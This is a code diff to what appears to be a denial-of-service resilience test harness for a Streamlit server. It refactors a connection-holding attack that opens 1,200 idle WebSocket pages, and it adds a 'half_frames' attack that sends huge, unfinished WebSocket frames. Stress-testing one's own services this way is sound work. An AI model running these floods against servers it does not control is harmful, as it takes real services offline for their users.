@@ -5,7 +5,7 @@ from contextlib import suppress
 from urllib.parse import urlsplit
 
 from streamlit.proto.BackMsg_pb2 import BackMsg
-from websockets.asyncio.client import connect
+from websockets.asyncio.client import ClientConnection, connect
 from websockets.exceptions import InvalidStatus
 from websockets.typing import Origin, Subprotocol
 
@@ -53,27 +53,53 @@ async def trickled_heads(scene: Scene) -> None:
 @attack(tried=1_200, held=50)
 async def held_pages(scene: Scene) -> None:
     """Twelve hundred connections of pages that ask for a run, and then say and read nothing."""
-    place = urlsplit(scene.address).netloc
     message = BackMsg()
     message.rerun_script.query_string = ""
+    held = await _hold_pages(scene, 1_200, message.SerializeToString())
+    await asyncio.sleep(5)
+    await try_all(*(page.close() for page in held))
+
+
+async def _hold_pages(scene: Scene, count: int, message: bytes = b"") -> list[ClientConnection]:
+    """Connect as many pages as there is place for, each of which sends a message."""
     held = []
 
     async def hold() -> None:
         scene.achieved["tried"] += 1
-        socket = await connect(
-            f"ws://{place}/_stcore/stream",
+        page = await connect(
+            f"ws://{urlsplit(scene.address).netloc}/_stcore/stream",
             subprotocols=[Subprotocol("streamlit")],
             origin=Origin(scene.address),
             local_addr=(SOURCE, 0),
         )
-        held.append(socket)
+        held.append(page)
         scene.achieved["held"] += 1
-        await socket.send(message.SerializeToString())
+        if message:
+            await page.send(message)
 
-    for _ in range(24):
+    for _ in range(count // 50):
         await try_all(*(hold() for _ in range(50)))
-    await asyncio.sleep(5)
-    await try_all(*(socket.close() for socket in held))
+    return held
+
+
+@attack(held=50, begun=50)
+async def half_frames(scene: Scene) -> None:
+    """Pages that send large messages without their ends, in one frame or in several."""
+    held = await _hold_pages(scene, 400)
+    for number, page in enumerate(held):
+        size = (950_000, 4_800_000)[number % 2]
+        if number % 4 < 2:
+            page.transport.write(_frame(0x82, size + 1)[:-1])
+        else:
+            for kind in (0x02, 0x00, 0x00):
+                page.transport.write(_frame(kind, size // 3))
+        scene.achieved["begun"] += 1
+        await asyncio.sleep(0)
+    await asyncio.sleep(12)
+
+
+def _frame(kind: int, length: int) -> bytes:
+    return bytes([kind, 0xFF]) + length.to_bytes(8, "big") + bytes(4 + length)
 
 
 @attack(connections=3_000)
